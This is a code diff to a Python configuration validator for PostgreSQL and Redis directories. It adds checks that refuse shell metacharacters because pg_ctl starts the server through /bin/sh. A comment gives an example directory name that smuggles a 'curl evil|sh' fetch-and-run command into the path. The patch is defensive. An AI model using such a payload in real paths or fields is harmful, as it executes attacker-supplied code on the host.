@@ -163,6 +163,43 @@ def _path_text(value: str) -> str:
 
 PathText = Annotated[str, AfterValidator(_path_text)]
 
+# ``pg_ctl start`` runs the server through ``/bin/sh -c``: the data directory and the log file inside
+# double quotes, the ``-o`` options (with the socket directory under state_dir) bare. A directory named
+# ``./data/pg$(curl evil|sh)`` would run that command, so the directories that reach pg_ctl refuse
+# what a shell interprets inside double quotes, and state_dir also what it interprets bare (and ``,``,
+# which separates PostgreSQL's socket directories: ``x,/tmp`` would open a socket in /tmp).
+_SHELL_IN_QUOTES = '"`$\\'
+_SHELL_BARE = " \t,;&|<>()*?[]{}'#!"
+
+
+def _unsafe(value: str, characters: str) -> str | None:
+    return next((ch for ch in value if ch in characters or not ch.isprintable()), None)
+
+
+def _server_dir(value: str) -> str:
+    bad = _unsafe(_path_text(value), _SHELL_IN_QUOTES)
+    if bad is not None:
+        raise ValueError(
+            f"a data directory cannot contain {bad!r}: pg_ctl starts PostgreSQL through /bin/sh, which "
+            "would interpret it; choose a plain directory name"
+        )
+    return value
+
+
+def _state_dir_text(value: str) -> str:
+    bad = _unsafe(_server_dir(value), _SHELL_IN_QUOTES + _SHELL_BARE)
+    if bad is not None:
+        raise ValueError(
+            f"state_dir cannot contain {bad!r}: PostgreSQL's socket directory (under state_dir) goes "
+            "unquoted into the command line pg_ctl runs through /bin/sh, so the shell or PostgreSQL would "
+            "interpret it; choose a plain directory name"
+        )
+    return value
+
+
+ServerDir = Annotated[str, AfterValidator(_server_dir)]
+StateDirText = Annotated[str, AfterValidator(_state_dir_text)]
+
 
 def _no_nul(value: str) -> str:
     if "\0" in value:
@@ -238,7 +275,7 @@ class PostgresSpec(_Strict):
     port: Port = _field(
         5432, description="TCP port on 127.0.0.1 (1-65535, unique in the file).", example=5432
     )
-    disk_dir: PathText = _field(
+    disk_dir: ServerDir = _field(
         description="Data directory used in disk mode (relative paths are relative to state.yaml).",
         example="./data/postgres",
     )
@@ -305,7 +342,7 @@ class RedisSpec(_Strict):
     port: Port = _field(
         6379, description="TCP port on 127.0.0.1 (1-65535, unique in the file).", example=6379
     )
-    disk_dir: PathText = _field(
+    disk_dir: ServerDir = _field(
         description="Data directory used in disk mode (relative paths are relative to state.yaml).",
         example="./data/redis",
     )
@@ -361,7 +398,7 @@ class DrainSpec(_Strict):
 class RamSpec(_Strict):
     """Where and how data lives in RAM mode."""
 
-    path: PathText = _field(
+    path: ServerDir = _field(
         "/dev/shm/reconciler/{stack}",
         description="Directory on tmpfs that holds each service's RAM-mode data directory. "
         "{stack} is replaced by the stack's name. A directory of its own: not a system directory such "
@@ -654,7 +691,7 @@ class StateSpec(_Strict):
         description="`ram`: data directories on tmpfs, kept safe by backups; `disk`: on persistent storage.",
         example="ram",
     )
-    state_dir: PathText = _field(
+    state_dir: StateDirText = _field(
         ".reconciler",
         description="Directory for the reconciler's own files: lock, status, journal, logs. Not a system "
         "directory such as /etc.",
